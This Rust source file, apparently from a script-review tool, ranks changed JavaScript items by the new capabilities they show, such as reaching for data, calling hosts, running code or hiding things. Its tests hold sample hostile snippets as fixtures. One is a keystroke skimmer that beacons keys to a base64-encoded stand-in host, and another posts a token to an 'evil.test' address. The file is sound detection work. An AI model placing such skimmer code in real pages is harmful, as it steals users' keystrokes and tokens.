//! Which item comes first in the queue, and why: by what the facts say that it newly does. An order and not a verdict: how
//! many kinds of things it newly does, each named, decides; nothing is weighed against anything else.

use std::cmp::Reverse;

use pinfold_triage::{Capability, Change, Fact, Findings, Group, Novelty};

use super::contents::is_other;
use super::summary;
use crate::review::evidence::Triage;

/// What a reviewer asks about first.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Kind {
    Data,
    Network,
    Code,
    Hidden,
    Guard,
    Contents,
    Decodes,
    Listed,
}

impl Kind {
    const ALL: [Self; 8] = [
        Self::Data,
        Self::Network,
        Self::Code,
        Self::Hidden,
        Self::Guard,
        Self::Contents,
        Self::Decodes,
        Self::Listed,
    ];

    /// As something that is done.
    fn text(self) -> &'static str {
        match self {
            Self::Data => "reaches for data",
            Self::Network => "sends or names a host",
            Self::Code => "runs text as code",
            Self::Hidden => "hides something",
            Self::Guard => "lacks a guard",
            Self::Contents => "is signed, installed or read in another way",
            Self::Decodes => "decodes text",
            Self::Listed => "lists members of a global object",
        }
    }

    fn of(capability: Capability) -> Option<Self> {
        if !capability.has_weight() {
            return None;
        }
        match capability.group() {
            Group::Data => Some(Self::Data),
            Group::Network => Some(Self::Network),
            Group::Code => Some(Self::Code),
            // By themselves these hide nothing: what is there for old browsers does so too.
            Group::Obfuscation if capability == Capability::Decoder => Some(Self::Decodes),
            Group::Obfuscation if capability == Capability::ListedGlobals => Some(Self::Listed),
            Group::Obfuscation => Some(Self::Hidden),
            Group::Environment => None,
        }
    }
}

/// What an item newly does, in one line, and what place that gives it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Glance {
    /// The line. Some of it are words of the attacker.
    pub line: String,
    /// Its place.
    pub urgency: Urgency,
}

impl Glance {
    /// None while it is not known. The line of what could not be analysed says why.
    #[must_use]
    pub fn of(triage: &Triage) -> Option<Self> {
        match triage {
            Triage::Done { findings, .. } => {
                Some(Self { line: summary::in_a_line(findings), urgency: Urgency::of(findings) })
            }
            Triage::NotDone(why) => Some(Self::unread(format!("not analysed because {why}"))),
            Triage::Running(so_far) => so_far.clone(),
        }
    }

    /// Of what nobody can say what it does.
    #[must_use]
    pub fn unread(line: String) -> Self {
        Self { line, urgency: Urgency::NotAnalysed }
    }
}

/// The place that the facts give, the first first. Whatever cannot be read stands in front of what is known to be little.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Urgency {
    /// It does what the verified version does not: the more kinds of things, the sooner.
    Newly(Kinds),
    /// Nobody can say what it does.
    NotAnalysed,
    /// There is nothing to compare it with, and it does some of these.
    Alone(Kinds),
    /// It is being read.
    BeingRead,
    /// It does things of these kinds more often, or with something else.
    Other(Kinds),
    /// It does none of them.
    Nothing,
}

/// Kinds of things that are done; of more kinds is before of fewer.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub struct Kinds(Reverse<usize>, Vec<Kind>);

impl Kinds {
    fn of(is_done: impl Fn(Kind) -> bool) -> Option<Self> {
        let kinds: Vec<_> = Kind::ALL.into_iter().filter(|kind| is_done(*kind)).collect();
        (!kinds.is_empty()).then_some(Self(Reverse(kinds.len()), kinds))
    }

    fn text(&self) -> String {
        self.1.iter().map(|kind| kind.text()).collect::<Vec<_>>().join(", ")
    }
}

impl Urgency {
    pub(super) fn of(findings: &Findings) -> Self {
        let all = with_members(findings);
        let does = |kind, is_meant: fn(&Fact) -> bool| {
            let facts = all.iter().flat_map(|part| &part.facts);
            let mut of_kind = facts.filter(|fact| Kind::of(fact.capability) == Some(kind));
            of_kind.any(is_meant)
        };
        let is_newly_done = |kind| {
            let besides = |part: &&Findings| match kind {
                Kind::Network => !part.hosts.is_empty(),
                Kind::Hidden => {
                    // What keeps a reader from its end hides what stands there.
                    part.not_analysed.is_some()
                        || part.hosts.iter().any(|host| host.hidden || host.imitates.is_some())
                }
                Kind::Guard => !part.losses.is_empty(),
                Kind::Contents => part.contents.as_deref().is_some_and(is_other),
                Kind::Data | Kind::Code | Kind::Decodes | Kind::Listed => false,
            };
            does(kind, |fact| fact.novelty() == Novelty::New) || all.iter().any(besides)
        };
        let newly = Kinds::of(is_newly_done);
        let other = || Kinds::of(|kind| does(kind, |fact| fact.novelty() != Novelty::New));
        match (findings.change, newly) {
            (Change::New, Some(kinds)) => Self::Alone(kinds),
            (_, Some(kinds)) => Self::Newly(kinds),
            (_, None) => other().map_or(Self::Nothing, Self::Other),
        }
    }

    /// Why it stands where it stands, in words.
    pub(in crate::review) fn text(&self) -> String {
        match self {
            Self::Newly(kinds) => format!("newly {}", kinds.text()),
            Self::NotAnalysed => "nobody can say what it does".to_owned(),
            Self::Alone(kinds) => format!("nothing to compare with; {}", kinds.text()),
            Self::BeingRead => "not read yet".to_owned(),
            Self::Other(kinds) => {
                format!("nothing new; more often or with something else: {}", kinds.text())
            }
            Self::Nothing => "nothing of weight is new".to_owned(),
        }
    }
}

/// What was found of a body, and of each member that was looked into: these lie no deeper than the analysis goes.
fn with_members(findings: &Findings) -> Vec<&Findings> {
    let members = findings.contents.iter().flat_map(|contents| &contents.members);
    let inside = members.filter_map(|member| member.findings.as_deref()).flat_map(with_members);
    std::iter::once(findings).chain(inside).collect()
}

#[cfg(test)]
mod tests {
    use pinfold_triage::{Limits, compare};

    use super::*;

    fn urgency(old: Option<&str>, new: &str) -> Urgency {
        Urgency::of(&compare(old.map(str::as_bytes), new.as_bytes(), Limits::default(), &|_| None))
    }

    #[test]
    fn what_newly_takes_data_and_sends_it_comes_first_and_what_does_nothing_new_last() {
        let old = "show(1); fetch('/menu');";
        let skimmer = "show(1); fetch('/menu'); addEventListener('keydown', e => navigator.sendBeacon(\
                       atob('aHR0cHM6Ly9ldmlsLnRlc3Qv'), e.key))";
        let order = [
            urgency(Some(old), skimmer),
            urgency(Some(old), "show(1); fetch('/menu'); eval(x)"),
            Urgency::NotAnalysed,
            urgency(None, skimmer),
            Urgency::BeingRead,
            urgency(Some(old), "show(1); fetch('/other');"),
            urgency(Some(old), "show(2); fetch('/menu');"),
        ];
        assert_eq!(
            order[0].text(),
            "newly reaches for data, sends or names a host, hides something, decodes text"
        );
        assert!(order.is_sorted(), "{order:?}");
        assert!(matches!(order[5], Urgency::Other(_)) && order[6] == Urgency::Nothing, "{order:?}");
    }

    #[test]
    fn a_message_that_stays_in_its_window_is_nothing_of_weight_and_one_to_anybody_is() {
        let posts = |to: &str| urgency(Some("f(1)"), &format!("f(1); {to}.postMessage(token, '*')"));
        assert_eq!(posts("window"), Urgency::Nothing);
        assert_eq!(posts("top").text(), "newly reaches for data");
        let new = urgency(Some("f(1)"), "f(1); w.postMessage(token, 'https://in.evil.test')");
        assert_eq!(new.text(), "newly reaches for data, sends or names a host");
    }

    #[test]
    fn what_hides_something_stands_in_front_of_what_old_browsers_need() {
        let skimmer = urgency(Some("f(1)"), "f(1); navigator[d(k)]");
        let polyfill = urgency(Some("f(1)"), "f(1); Object.getOwnPropertyNames(window).map(g)");
        assert_eq!(skimmer.text(), "newly hides something");
        assert_eq!(polyfill.text(), "newly lists members of a global object");
        assert!(skimmer < polyfill);
    }

    #[test]
    fn what_keeps_itself_from_being_read_is_not_put_behind_what_is_harmless() {
        let deep = format!("{}0{}", "(".repeat(5000), ")".repeat(5000));
        assert!(urgency(Some("f(1)"), &deep) < Urgency::BeingRead);
    }
}
